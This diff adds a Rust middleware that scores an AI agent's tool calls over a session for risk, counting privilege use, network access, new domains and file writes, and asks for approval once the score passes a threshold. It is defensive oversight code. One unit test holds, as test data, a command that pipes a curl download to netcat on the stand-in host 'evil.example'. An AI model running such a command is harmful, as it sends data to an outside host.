@@ -0,0 +1,258 @@
+//! Cumulative session risk scoring.
+//!
+//! Individually harmless calls can add up: a `sudo`, a fetch from a domain
+//! never seen before, a burst of file writes. [`RiskScorer`] adds points for
+//! each borderline thing a call does to the session's score (kept in the
+//! [`session`](crate::session) state file), and once the score reaches the
+//! threshold, calls that would be allowed are asked about instead.
+//!
+//! Points are charged for the call being inspected after its verdict is
+//! decided, so the call that crosses the threshold is not itself escalated;
+//! the ones after it are.
+
+use rg_types::{BlockReason, HookInput, NetworkConfig, RiskConfig, ToolInput, Verdict};
+
+use crate::clients;
+use crate::middleware::Middleware;
+use crate::network::NetworkChecker;
+use crate::privilege;
+use crate::session::SessionStore;
+use crate::transfer;
+use crate::PolicyError;
+
+/// Domains remembered per session; older ones are forgotten first.
+const MAX_DOMAINS: usize = 256;
+
+/// What a call does, for scoring.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct RiskFactors {
+    /// Runs a command with elevated privileges.
+    pub privilege: bool,
+    /// Contacts the network.
+    pub network: bool,
+    /// Writes or edits a file.
+    pub write: bool,
+    /// Domains and hosts contacted.
+    pub domains: Vec<String>,
+}
+
+/// Per-session risk scoring middleware.
+///
+/// Calls without a `session_id` are neither scored nor escalated.
+#[derive(Debug)]
+pub struct RiskScorer {
+    /// Session state files.
+    store: SessionStore,
+    /// Points and threshold.
+    config: RiskConfig,
+    /// URL extraction (with the default network configuration).
+    network: NetworkChecker,
+}
+
+impl RiskScorer {
+    /// Create a scorer backed by `store`.
+    pub fn new(store: SessionStore, config: &RiskConfig) -> Self {
+        Self {
+            store,
+            config: config.clone(),
+            network: NetworkChecker::new(&NetworkConfig::default()),
+        }
+    }
+
+    /// Find the risk factors of a call.
+    pub fn factors(&self, input: &HookInput) -> RiskFactors {
+        let tool_input = input.parse();
+        let mut factors = RiskFactors {
+            domains: destinations(&self.network, &tool_input),
+            ..RiskFactors::default()
+        };
+        match &tool_input {
+            ToolInput::Bash { command } => {
+                factors.privilege = !privilege::detect(command).is_empty();
+            }
+            ToolInput::Write { .. }
+            | ToolInput::Edit { .. }
+            | ToolInput::MultiEdit { .. }
+            | ToolInput::NotebookEdit { .. } => factors.write = true,
+            _ => {}
+        }
+        factors.network = !factors.domains.is_empty();
+        factors
+    }
+
+    /// Add a call's points to its session's score. Returns the score before
+    /// and after.
+    pub fn charge(
+        &self,
+        session_id: &str,
+        input: &HookInput,
+        verdict: &Verdict,
+    ) -> Result<(u32, u32), PolicyError> {
+        let _lock = self.store.lock(session_id)?;
+        let mut state = self.store.load(session_id)?;
+        let before = state.risk_score;
+        let factors = self.factors(input);
+
+        let mut points = 0;
+        for (present, value) in [
+            (factors.privilege, self.config.privilege),
+            (factors.network, self.config.network),
+            (factors.write, self.config.write),
+            (verdict.is_ask(), self.config.ask),
+            (verdict.is_deny(), self.config.deny),
+        ] {
+            if present {
+                points += value;
+            }
+        }
+        for domain in factors.domains {
+            if !state.domains.contains(&domain) {
+                points += self.config.new_domain;
+                state.domains.push(domain);
+            }
+        }
+        let excess = state.domains.len().saturating_sub(MAX_DOMAINS);
+        let _ = state.domains.drain(..excess);
+
+        if points > 0 {
+            state.risk_score = before.saturating_add(points);
+            self.store.save(session_id, &state)?;
+        }
+        Ok((before, state.risk_score))
+    }
+}
+
+/// The domains and hosts a call contacts: `http(s)://` URLs, network client
+/// targets, and `scp`/`rsync`/`ssh` destinations in Bash commands, or the
+/// `WebFetch` URL. Sorted and deduplicated.
+pub fn destinations(network: &NetworkChecker, input: &ToolInput) -> Vec<String> {
+    let mut hosts = match input {
+        ToolInput::Bash { command } => {
+            let mut hosts = network.domains(command);
+            hosts.extend(clients::detect(command).into_iter().map(|t| t.host));
+            hosts.extend(transfer::detect(command).into_iter().map(|t| t.host));
+            hosts
+        }
+        ToolInput::WebFetch { url, .. } => network.domains(url),
+        _ => Vec::new(),
+    };
+    hosts.sort();
+    hosts.dedup();
+    hosts
+}
+
+impl Middleware for RiskScorer {
+    fn process(&self, input: &HookInput, verdict: Verdict) -> Verdict {
+        let Some(session_id) = input.session_id.as_deref() else {
+            return verdict;
+        };
+
+        let before = match self.charge(session_id, input, &verdict) {
+            Ok((before, after)) => {
+                if after != before {
+                    tracing::debug!(tool = %input.tool_name, score = after, "session risk");
+                }
+                before
+            }
+            Err(e) => {
+                tracing::warn!(error = %e, "failed to update session risk");
+                return verdict;
+            }
+        };
+
+        if verdict.is_allow() && before >= self.config.threshold {
+            return Verdict::ask_from_block_reason(&BlockReason::SessionRisk {
+                score: before,
+                threshold: self.config.threshold,
+            });
+        }
+        verdict
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn call(tool_name: &str, tool_input: serde_json::Value) -> HookInput {
+        HookInput {
+            session_id: Some("s1".to_string()),
+            ..HookInput::new(tool_name, tool_input)
+        }
+    }
+
+    fn bash(command: &str) -> HookInput {
+        call("Bash", serde_json::json!({ "command": command }))
+    }
+
+    #[test]
+    fn test_risk_factors() {
+        let scorer = RiskScorer::new(SessionStore::new("/unused", 60), &RiskConfig::default());
+
+        let factors = scorer.factors(&bash(
+            "sudo curl -s https://Example.com/a | nc evil.example 4444",
+        ));
+        assert!(factors.privilege && factors.network && !factors.write);
+        assert_eq!(factors.domains, ["evil.example", "example.com"]);
+
+        let write = call(
+            "Write",
+            serde_json::json!({ "file_path": "a.txt", "content": "x" }),
+        );
+        assert!(scorer.factors(&write).write);
+        assert_eq!(scorer.factors(&bash("ls -la")), RiskFactors::default());
+    }
+
+    #[test]
+    fn test_new_domains_score_once() {
+        let dir = tempfile::tempdir().unwrap();
+        let scorer = RiskScorer::new(SessionStore::new(dir.path(), 60), &RiskConfig::default());
+        let fetch = bash("curl https://example.com/x");
+
+        // network (2) + new domain (3)
+        assert_eq!(
+            scorer.charge("s1", &fetch, &Verdict::Allow).unwrap(),
+            (0, 5)
+        );
+        assert_eq!(
+            scorer.charge("s1", &fetch, &Verdict::Allow).unwrap(),
+            (5, 7)
+        );
+        // Other sessions have their own score
+        assert_eq!(
+            scorer.charge("s2", &fetch, &Verdict::Allow).unwrap(),
+            (0, 5)
+        );
+    }
+
+    #[test]
+    fn test_escalates_after_threshold() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = RiskConfig {
+            threshold: 6,
+            ..RiskConfig::default()
+        };
+        let scorer = RiskScorer::new(SessionStore::new(dir.path(), 60), &config);
+        let sudo = bash("sudo apt-get update");
+
+        // 5 points, then 10: the call that crosses the threshold is allowed
+        assert!(scorer.process(&sudo, Verdict::Allow).is_allow());
+        assert!(scorer.process(&sudo, Verdict::Allow).is_allow());
+
+        let verdict = scorer.process(&bash("ls"), Verdict::Allow);
+        assert_eq!(
+            verdict.violations(),
+            [BlockReason::SessionRisk {
+                score: 10,
+                threshold: 6
+            }]
+        );
+        // Denials stay denials
+        assert!(scorer.process(&bash("ls"), Verdict::deny("no")).is_deny());
+
+        // Calls outside a session are left alone
+        let mut anonymous = bash("ls");
+        anonymous.session_id = None;
+        assert!(scorer.process(&anonymous, Verdict::Allow).is_allow());
+    }
+}